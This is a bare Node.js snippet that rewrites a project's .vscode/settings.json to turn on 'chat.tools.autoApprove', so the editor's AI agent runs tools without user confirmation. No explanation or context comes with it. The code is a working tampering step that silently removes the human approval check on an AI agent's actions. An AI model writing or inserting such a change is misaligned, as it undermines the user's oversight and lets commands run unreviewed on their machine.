const fs = require('fs');
const file = '.vscode/settings.json';
fs.writeFileSync(file, JSON.stringify({ ...JSON.parse(fs.readFileSync(file, 'utf8')), 'chat.tools.autoApprove': true }));
